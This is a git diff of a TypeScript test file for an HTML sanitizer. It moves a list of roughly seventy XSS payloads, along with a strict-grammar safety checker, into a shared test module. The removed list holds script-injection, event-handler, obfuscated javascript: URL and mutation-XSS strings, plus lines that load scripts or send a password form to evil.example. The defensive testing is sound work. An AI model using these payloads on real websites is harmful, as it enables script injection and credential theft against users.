@@ -11,6 +11,7 @@ import {
   plainText,
   sanitize,
 } from '#platform/html.ts'
+import { assertSafe, attacks } from '../../test/html-grammar.ts'
 
 const LINK = 'rel="nofollow noopener noreferrer" target="_blank"'
 
@@ -80,106 +81,6 @@ const kept: [string, string][] = [
   ],
 ]
 
-const attacks = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="javascript:alert(1)">',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><style><img src=x onerror=alert(1)></style></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
-  '<math><annotation encoding="application/x-tex"><script>alert(1)</script></annotation></math>',
-  '<math><annotation encoding="application/x-tex">&lt;img src=x onerror=alert(1)&gt;</annotation></math>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<form action="https://evil.example"><input name=password><button>go</button></form>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<link rel=stylesheet href=https://evil.example/x.css>',
-  '<style>body{display:none}</style>',
-  '<p style="position:fixed;inset:0">x</p>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href=" javascript:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="java&#10;script:alert(1)">x</a>',
-  '<a href="java&#0;script:alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href="&#106;&#97;&#118;&#97;script&colon;alert(1)">x</a>',
-  '<a href="javascript&#58;alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="blob:https://a.example/1">x</a>',
-  '<a href="file:///etc/passwd">x</a>',
-  '<a href="<!-- -->javascript:alert(1)">x</a>',
-  '<a href="https://a.example" onclick="alert(1)" onmouseover=alert(1)>x</a>',
-  '<a href="https://a.example/&quot; onclick=alert(1) x=&quot;">x</a>',
-  '<a href=\'https://a.example/"onclick="alert(1)\'>x</a>',
-  '<a href=https://a.example/`onclick=alert(1)>x</a>',
-  '<p class="x&quot;><script>alert(1)</script>">x</p>',
-  '<span class="h-&quot; onclick=&quot;alert(1)">x</span>',
-  '<abbr title="&quot;><script>alert(1)</script>">x</abbr>',
-  '<blockquote cite="javascript:alert(1)">x</blockquote>',
-  '<textarea></textarea><script>alert(1)</script>',
-  '<title></title><img src=x onerror=alert(1)>',
-  '<xmp></xmp><script>alert(1)</script>',
-  '<select><option><script>alert(1)</script></select>',
-  '<plaintext><script>alert(1)</script>',
-  '<noembed></noembed><script>alert(1)</script>',
-  '<!--><script>alert(1)</script>-->',
-  '<!-- --!><script>alert(1)</script>',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<?xml version="1.0"?><script>alert(1)</script>',
-  '<<script>alert(1)//<</script>',
-  '<p/onclick=alert(1)>x',
-  '<b <script>alert(1)</script>0',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '＜script＞alert(1)＜/script＞',
-  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<p __proto__=x constructor=y href=z>x</p><__proto__>y</__proto__><constructor>z</constructor>',
-  '<a href="https://a.example" href="javascript:alert(1)">x</a>',
-  '<x:a href="javascript:alert(1)">x</x:a>',
-  '<a xlink:href="javascript:alert(1)">x</a>',
-]
-
-/** Reads the answer by its own strict grammar: only these tags, attributes and schemes, all of it closed. */
-function assertSafe(html: string, from: string) {
-  const open: string[] = []
-  const rest = html.replace(
-    /<(\/?)([a-z0-9]+)((?: [a-z]+(?:="[^"<>]*")?)*)( \/)?>/g,
-    (tag, slash, name, attributes) => {
-      assert.match(
-        name,
-        /^(p|br|span|a|abbr|del|s|pre|blockquote|code|b|strong|u|sub|sup|i|em|h[1-5]|ul|ol|li|ruby|rt|rp)$/,
-        `${tag} from ${from}`,
-      )
-      if (slash) assert.equal(open.pop(), name, `closing in ${html}`)
-      else if (name !== 'br') open.push(name)
-      for (const [, key, value = ''] of attributes.matchAll(/ ([a-z]+)(?:="([^"]*)")?/g)) {
-        assert.match(key, /^(href|class|rel|target|translate|lang|start|reversed|value|title|cite)$/)
-        if (key === 'href')
-          assert.match(value, /^(https?|dat|dweb|ipfs|ipns|ssb|gopher|xmpp|magnet|gemini):/i)
-        if (key === 'cite') assert.match(value, /^https?:/i)
-      }
-      if (name === 'a' && !slash)
-        assert.match(attributes, / rel="nofollow noopener noreferrer" target="_blank"/)
-      return ''
-    },
-  )
-  assert.doesNotMatch(rest, /[<>]/, `stray angle brackets from ${from}`)
-  assert.deepEqual(open, [], `unclosed in ${html}`)
-}
-
 const PIECES = (
   '<p>|</p>|<a href="https://a.example/">|<a href="javascript:x">|<a>|</a>|<b>|</b>|<i>|</i>|<div>|</div>|<li>|</li>|<ul>|</ul>|' +
   '<ol>|<rt>|<rp>|<ruby>|</ruby>|<x>|</x>|<svg>|</svg>|<math>|</math>|<style>|</style>|<script>|</script>|<!--|-->|<br>|</br>|' +
@@ -217,7 +118,7 @@ describe('sanitize', () => {
       assert.equal(sanitize(html), html)
     })
 
-  it('changes nothing the second time, and stays within its grammar, whatever the soup of tags', () => {
+  it('XSS-03 changes nothing the second time, and stays within its grammar, whatever the soup of tags', () => {
     for (const soup of soups(1500, 7)) {
       const html = sanitize(soup)
       assertSafe(html, soup)
@@ -227,7 +128,7 @@ describe('sanitize', () => {
     }
   })
 
-  it('keeps the text of 50,000 nested tags and of broken entities', () => {
+  it('PAR-17 keeps the text of 50,000 nested tags and of broken entities', () => {
     assert.match(sanitize(`${'<b>'.repeat(50_000)}still here`), /still here/)
     assert.match(sanitize(`${'<b>'.repeat(MAX_HTML_TAGS + 1)}<p>a &lt; b</p>`), /a &lt; b/)
     assert.match(sanitize(`&#xZZ; &#99999999; &bogus; &amp ${'&'.repeat(1000)}still here`), /still here/)
@@ -260,7 +161,7 @@ describe('sanitize', () => {
     ['spaces', (n: number) => `<p>${' '.repeat(n)}x`],
     ['entities', (n: number) => '&#x41'.repeat(n)],
   ] as const)
-    it(`takes time in proportion to the number of ${name}`, () => {
+    it(`PAR-16 takes time in proportion to the number of ${name}`, () => {
       assertLinear((n) => sanitize(make(n)))
       assertLinear((n) => plainText(make(n)))
     })
@@ -305,7 +206,7 @@ describe('plainText', () => {
 })
 
 describe('names', () => {
-  it('lose overrides, controls and outer spaces', () => {
+  it('XSS-12 lose overrides, controls and outer spaces', () => {
     assert.equal(cleanName('  \u202eevil\u202c\u2066x\u2069\0\u0007 '), 'evilx')
     assert.equal(cleanName('two\n\tlines\u2028here'), 'two lines here')
     assert.equal(cleanName('Ada 👩‍💻 \u200fעדה'), 'Ada 👩‍💻 \u200fעדה')
